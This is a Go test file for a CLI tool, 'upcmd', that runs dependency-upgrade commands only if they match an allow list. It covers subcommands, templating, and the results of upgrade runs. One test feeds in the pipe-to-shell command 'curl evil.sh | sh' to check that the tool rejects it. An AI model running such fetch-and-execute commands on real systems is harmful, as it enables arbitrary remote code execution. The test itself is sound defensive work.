package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing/object"
	"github.com/spf13/cobra"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/fyrsmithlabs/upcmd/internal/config"
	"github.com/fyrsmithlabs/upcmd/internal/jobfile"
	"github.com/fyrsmithlabs/upcmd/internal/sanitize"
	"github.com/fyrsmithlabs/upcmd/internal/telemetry"
	"github.com/fyrsmithlabs/upcmd/internal/upgrade"
)

// execute runs rootCmd with args and returns stdout and stderr.
func execute(t *testing.T, args ...string) (string, string, error) {
	t.Helper()

	configPath, jobPath, phaseFlag, repoDir, metricsFile, renderDep = "", "", "all", "", "", ""

	var stdout, stderr bytes.Buffer
	rootCmd.SetOut(&stdout)
	rootCmd.SetErr(&stderr)
	rootCmd.SetArgs(args)
	t.Cleanup(func() {
		rootCmd.SetOut(nil)
		rootCmd.SetErr(nil)
		rootCmd.SetArgs(nil)
	})

	err := rootCmd.ExecuteContext(context.Background())
	return stdout.String(), stderr.String(), err
}

func findCommand(name string) *cobra.Command {
	for _, cmd := range rootCmd.Commands() {
		if cmd.Name() == name {
			return cmd
		}
	}
	return nil
}

func writeFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	require.NoError(t, os.WriteFile(path, []byte(content), 0o600))
	return path
}

// initRepo creates a repository with the given files committed.
func initRepo(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()

	r, err := git.PlainInit(dir, false)
	require.NoError(t, err)
	wt, err := r.Worktree()
	require.NoError(t, err)

	for name, content := range files {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644))
		_, err := wt.Add(name)
		require.NoError(t, err)
	}
	_, err = wt.Commit("initial", &git.CommitOptions{
		Author: &object.Signature{Name: "test", Email: "test@example.com", When: time.Now()},
	})
	require.NoError(t, err)
	return dir
}

const testJob = `
branchName: renovate/lodash-4.x
manager: npm
upgrades:
  - depName: lodash
    packageFile: package.json
    newVersion: 4.17.21
    postUpgradeTasks:
      commands:
        - "echo updated > package-lock.json"
        - "rm -rf node_modules"
      fileFilters: ["package-lock.json"]
updatedPackageFiles:
  - path: package.json
    type: addition
    contents: |
      {"dependencies": {"lodash": "4.17.21"}}
`

func TestRootCmd_Subcommands(t *testing.T) {
	for _, name := range []string{"run", "check", "render", "version"} {
		cmd := findCommand(name)
		require.NotNil(t, cmd, "%s command not found in rootCmd", name)
		assert.NotEmpty(t, cmd.Short, "%s should have Short description", name)
	}
}

func TestRunCmd_Flags(t *testing.T) {
	cmd := findCommand("run")
	require.NotNil(t, cmd)
	for _, flag := range []string{"job", "phase", "repo", "metrics-file"} {
		assert.NotNil(t, cmd.Flags().Lookup(flag), "run should have --%s", flag)
	}
	assert.Equal(t, "all", cmd.Flags().Lookup("phase").DefValue)
}

func TestVersionCmd(t *testing.T) {
	out, _, err := execute(t, "version")
	require.NoError(t, err)
	assert.Contains(t, out, "Version:    dev")
	assert.Contains(t, out, "Commit:")
}

func TestCheckCmd(t *testing.T) {
	dir := t.TempDir()
	cfg := writeFile(t, dir, "upcmd.yaml", "allowed_upgrade_commands:\n  - \"npm ci.*\"\n")

	out, _, err := execute(t, "check", "--config", cfg, "npm ci --ignore-scripts")
	require.NoError(t, err)
	assert.Contains(t, out, "allowed")
	assert.Contains(t, out, "npm ci --ignore-scripts")
	assert.Contains(t, out, "npm ci.*")

	out, _, err = execute(t, "check", "--config", cfg, "npm ci", "curl evil.sh | sh")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "1 of 2 commands rejected")
	assert.Contains(t, out, "rejected")
	assert.Contains(t, out, "curl evil.sh")
}

func TestCheckCmd_EmptyAllowList(t *testing.T) {
	_, stderr, err := execute(t, "check", "npm ci")
	require.Error(t, err)
	assert.Contains(t, stderr, "allowed_upgrade_commands is empty")
}

func TestRenderCmd(t *testing.T) {
	dir := t.TempDir()
	cfg := writeFile(t, dir, "upcmd.yaml", "allow_upgrade_command_templating: true\n")
	job := writeFile(t, dir, "job.yaml", testJob)

	out, _, err := execute(t, "render", "-c", cfg, "-j", job, "--dep", "lodash",
		"npm install {{ .depName }}@{{ .newVersion | shellQuote }}")
	require.NoError(t, err)
	assert.Equal(t, "npm install lodash@'4.17.21'\n", out)

	out, _, err = execute(t, "render", "-c", cfg, "-j", job, "echo {{ .branchName }} {{ .isGroup }}")
	require.NoError(t, err)
	assert.Equal(t, "echo renovate/lodash-4.x false\n", out)
}

func TestRenderCmd_Errors(t *testing.T) {
	dir := t.TempDir()
	job := writeFile(t, dir, "job.yaml", testJob)

	_, stderr, err := execute(t, "render", "-j", job, "--dep", "react", "echo")
	require.Error(t, err)
	assert.Contains(t, err.Error(), `no upgrade named "react"`)
	assert.Contains(t, stderr, "allow_upgrade_command_templating is off")

	_, _, err = execute(t, "render", "-j", job, "echo {{ .token }}")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "render failed")
}

func TestRunCmd(t *testing.T) {
	repo := initRepo(t, map[string]string{
		"package.json":      `{"dependencies": {"lodash": "4.17.20"}}` + "\n",
		"package-lock.json": "original\n",
	})
	dir := t.TempDir()
	cfg := writeFile(t, dir, "upcmd.yaml", "allowed_upgrade_commands:\n  - \"echo .*\"\n")
	job := writeFile(t, dir, "job.yaml", testJob)
	metrics := filepath.Join(dir, "upcmd.prom")

	out, stderr, err := execute(t, "run", "-c", cfg, "-j", job, "--repo", repo, "--metrics-file", metrics)
	require.NoError(t, err, stderr)

	var res jobfile.ResultDoc
	require.NoError(t, json.Unmarshal([]byte(out), &res))

	assert.Equal(t, []jobfile.FileDoc{
		{Path: "package-lock.json", Type: upgrade.ChangeAddition, Contents: "updated\n"},
	}, res.UpdatedArtifacts)
	require.Len(t, res.ArtifactErrors, 1)
	assert.Equal(t, "package.json", res.ArtifactErrors[0].LockFile)
	assert.Equal(t, upgrade.KindCommandRejected, res.ArtifactErrors[0].Kind)
	assert.Contains(t, res.ArtifactErrors[0].Stderr, "rm -rf node_modules")

	written, err := os.ReadFile(filepath.Join(repo, "package.json"))
	require.NoError(t, err)
	assert.Contains(t, string(written), "4.17.21", "pending package file edits are persisted")

	prom, err := os.ReadFile(metrics)
	require.NoError(t, err)
	assert.Contains(t, string(prom), "upcmd_commands_total")
}

func TestRunCmd_SkippedPhasePrintsNull(t *testing.T) {
	repo := initRepo(t, map[string]string{"package.json": "{}\n"})
	dir := t.TempDir()
	job := writeFile(t, dir, "job.yaml", testJob)

	out, _, err := execute(t, "run", "-j", job, "--repo", repo, "--phase", "post")
	require.NoError(t, err)
	assert.Equal(t, "null\n", out)
}

func TestRunCmd_Errors(t *testing.T) {
	repo := initRepo(t, map[string]string{"package.json": "{}\n"})
	dir := t.TempDir()
	job := writeFile(t, dir, "job.yaml", testJob)

	tests := []struct {
		name string
		args []string
		want string
	}{
		{name: "missing job flag", args: []string{"run"}, want: "job"},
		{name: "missing job file", args: []string{"run", "-j", filepath.Join(dir, "nope.yaml")}, want: "failed to open job file"},
		{name: "bad phase", args: []string{"run", "-j", job, "--repo", repo, "--phase", "during"}, want: "unknown phase"},
		{name: "not a repository", args: []string{"run", "-j", job, "--repo", t.TempDir()}, want: "not a git repository"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := execute(t, tt.args...)
			require.Error(t, err)
			assert.Contains(t, err.Error(), tt.want)
		})
	}
}

func TestNewLogger_TagsVersion(t *testing.T) {
	ctx := context.Background()
	cfg := config.Default()
	cfg.Logging.Format = "json"

	tel, err := telemetry.New(ctx, telemetry.ConfigFrom(cfg.Telemetry, version))
	require.NoError(t, err)
	t.Cleanup(func() { _ = tel.Shutdown(ctx) })

	var buf bytes.Buffer
	logger, err := newLogger(cfg, tel, sanitize.Nop(), &buf)
	require.NoError(t, err)
	logger.Info(ctx, "hello")

	var line map[string]interface{}
	require.NoError(t, json.Unmarshal(buf.Bytes(), &line))
	assert.Equal(t, "hello", line["msg"])
	assert.Equal(t, "dev", line["version"])
}
